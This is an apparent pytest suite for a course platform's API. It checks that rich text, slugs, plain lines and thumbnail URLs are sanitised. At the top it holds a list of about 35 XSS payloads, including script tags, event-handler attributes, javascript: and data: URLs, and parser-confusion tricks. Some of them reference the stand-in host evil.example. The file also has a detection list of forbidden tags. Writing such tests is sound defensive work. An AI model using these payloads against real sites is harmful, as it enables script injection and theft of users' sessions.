"""What people write: slugs, plain lines, and HTML that can run nothing wherever it is shown."""

import html.parser
import re
from typing import Any

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from lyceum.courses.adapters import text
from lyceum.platform.database import Database
from tests.courses import factories
from tests.courses.conftest import SignIn

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><g/></svg>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<form action='//evil.example'><input name=p><button>go</button></form>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<<script>alert(1)//<</script>",
    '"><img src=x onerror=alert(1)>',
    "<x onclick=alert(1)>x</x>",
    "<div id=x tabindex=1 onfocus=alert(1)></div>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
]
FORBIDDEN_TAGS = {
    "script", "style", "iframe", "object", "embed", "form", "input", "button", "base", "meta",
    "link", "svg", "math", "body", "video", "template", "noscript", "textarea", "frame",
}  # fmt: skip
SCHEMES = re.compile(r"^(https?:|mailto:|tel:|/|#|[^:]*$)", re.IGNORECASE)


class Inspector(html.parser.HTMLParser):
    """Collects what of a document could run."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.found.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "id"):
                self.found.append(f"{tag} {name}")
            if name in ("href", "src", "cite") and not SCHEMES.match((value or "").strip()):
                self.found.append(f"{tag} {name}={value}")


def what_runs(document: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(document)
    inspector.close()
    return inspector.found


def test_the_inspector_sees_attacks() -> None:
    assert what_runs("<p onclick=x><script>") == ["p onclick", "script"]
    assert what_runs("<a href='javascript:x'>") == ["a href=javascript:x"]


async def test_script_in_every_text_field_runs_nowhere(
    client: httpx.AsyncClient, database: Database, sign_in: SignIn
) -> None:
    """Rich text comes back clean; plain text comes back as text, in JSON that no browser sniffs."""
    headers = await sign_in(await factories.store_person(database, "instructor"))
    learner = await sign_in(await factories.store_person(database))

    async def post(path: str, body: dict[str, Any]) -> dict[str, Any]:
        response = await client.post(f"/api/v1{path}", json=body, headers=headers)
        assert response.status_code in (200, 201), (body, response.text)
        data: dict[str, Any] = response.json()["data"]
        return data

    for attack in ATTACKS:
        plain = attack[:90]
        body = {
            "title": f"Title {plain}", "subtitle": plain,
            "description": f"<p>Ten letters</p>{attack}", "category": f"C {plain}",
            "tags": [plain[:50]], "objectives": [plain],
        }  # fmt: skip
        course = await post("/courses", body)
        chapter = await post(f"/courses/{course['id']}/chapters", {"title": plain})
        new = {"title": plain, "type": "text", "content": attack, "isPreview": True}
        lecture = await post(f"/chapters/{chapter['id']}/lectures", new)
        await post(f"/courses/{course['id']}/publish", {})
        seen = await client.get(f"/api/v1/courses/{course['id']}", headers=learner)
        opened = await client.get(f"/api/v1/lectures/{lecture['id']}", headers=learner)
        for response in (seen, opened):
            assert response.status_code == 200
            assert response.headers["content-type"].startswith("application/json")
            assert response.headers["x-content-type-options"] == "nosniff"
        assert what_runs(seen.json()["data"]["description"]) == [], attack
        assert what_runs(opened.json()["data"]["content"]) == [], attack
        assert re.fullmatch(r"[a-z0-9-]+", seen.json()["data"]["slug"])


@pytest.mark.parametrize(
    "url",
    [
        "http://img.example/a.png", "javascript:alert(1)", "//img.example/a", "data:image/png;x",
        "https://img.example/a\"onload=x", "https://img.example/<b>", "https://a b", "https://",
        "ftp://img.example/a", " https://img.example/a", "https://img.example/a\nb",
        "https://img.example\\@evil", "https://" + "a" * 2000,
    ],
)  # fmt: skip
async def test_addresses_are_https(
    client: httpx.AsyncClient, database: Database, sign_in: SignIn, url: str
) -> None:
    headers = await sign_in(await factories.store_person(database, "instructor"))
    body = {"title": "A course of mine", "thumbnailUrl": url}
    refused = await client.post("/api/v1/courses", json=body, headers=headers)
    assert refused.status_code == 422, refused.text
    assert refused.json()["errors"][0]["pointer"] == "/thumbnailUrl"


@given(st.text(max_size=300))
def test_a_slug_is_always_plain(title: str) -> None:
    assert re.fullmatch(r"([a-z0-9]+(-[a-z0-9]+)*)?", text.make_slug(title))
    assert len(text.make_slug(title)) <= text.SLUG_LENGTH


@given(st.text(max_size=500))
def test_lines_hold_no_controls(written: str) -> None:
    cleaned = text.clean_lines(written)
    assert text.clean_lines(cleaned) == cleaned
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f\u202a-\u202e]|\n{3}", cleaned)


def test_words_of_html() -> None:
    document = (
        "<h1>One</h1><p>two &amp; <b>th</b>ree</p><ul><li>four</li></ul>five<br>six &lt;b&gt;"
    )
    assert text.html_to_text(document) == "One two & three four five six <b>"
